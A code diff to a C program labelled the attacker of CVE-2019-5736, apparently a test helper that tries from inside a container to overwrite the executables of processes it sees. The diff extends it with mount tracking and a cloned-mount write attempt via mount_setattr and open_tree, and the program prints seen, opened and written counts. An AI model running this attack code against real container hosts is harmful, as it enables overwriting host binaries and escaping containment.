@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /* The attacker of CVE-2019-5736: poller FILE... runs inside a container, keeps a handle on the
- * executable of every process it sees that is not one of FILE, and tries again and again to write
- * to it, also by clearing "read-only" of its mount. Until SIGTERM or a file /stop, then it prints
+ * executable of every process it sees that is not one of FILE, each by its mount, and tries again and
+ * again to write to it, also by clearing "read-only" of its mount or of a copy of that. Until SIGTERM or a file /stop, then it prints
  * "seen N opened N written N". */
 #include <dirent.h>
 #include <errno.h>
@@ -18,13 +18,31 @@
 
 enum { MAX_HANDLES = 256 };
 
-static struct {
+static struct handle {
 	int fd;
 	dev_t dev;
 	ino_t ino;
+	unsigned mount;
 } handles[MAX_HANDLES];
 static size_t nhandles;
 static unsigned long opened, written;
+
+/* From fdinfo: statx cannot tell the mount everywhere. */
+static unsigned mount_of(int fd)
+{
+	char path[64], line[128];
+	unsigned id = 0;
+
+	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
+	FILE *f = fopen(path, "re");
+
+	while (f && fgets(line, sizeof(line), f))
+		if (sscanf(line, "mnt_id: %u", &id) == 1)
+			break;
+	if (f)
+		fclose(f);
+	return id;
+}
 
 static bool is_known(int fd)
 {
@@ -32,15 +50,15 @@ static bool is_known(int fd)
 
 	if (fstat(fd, &st) < 0)
 		return true;
+	const struct handle new = { fd, st.st_dev, st.st_ino, mount_of(fd) };
+
 	for (size_t i = 0; i < nhandles; i++)
-		if (handles[i].dev == st.st_dev && handles[i].ino == st.st_ino)
+		if (handles[i].dev == new.dev && handles[i].ino == new.ino &&
+		    handles[i].mount == new.mount)
 			return true;
 	if (nhandles == MAX_HANDLES)
 		return true;
-	handles[nhandles].fd = fd;
-	handles[nhandles].dev = st.st_dev;
-	handles[nhandles].ino = st.st_ino;
-	nhandles++;
+	handles[nhandles++] = new;
 	return false;
 }
 
@@ -76,14 +94,10 @@ static void collect(char **names)
 		closedir(d);
 }
 
-static void attack(int handle)
+static void write_through(const char *path)
 {
 	static const int modes[] = { O_RDWR, O_WRONLY };
-	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
-	char path[64];
 
-	syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &writable, sizeof(writable));
-	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
 	for (size_t i = 0; i < sizeof(modes) / sizeof(*modes); i++) {
 		int fd = open(path, modes[i] | O_CLOEXEC);
 
@@ -94,6 +108,26 @@ static void attack(int handle)
 			written++;
 		close(fd);
 	}
+}
+
+static void attack(int handle)
+{
+	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
+	char path[64];
+
+	syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &writable, sizeof(writable));
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
+	write_through(path);
+
+	int copy = (int)syscall(SYS_open_tree, handle, "",
+				OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_EMPTY_PATH);
+
+	if (copy < 0)
+		return;
+	syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &writable, sizeof(writable));
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", copy);
+	write_through(path);
+	close(copy);
 }
 
 int main(int argc, char **argv)
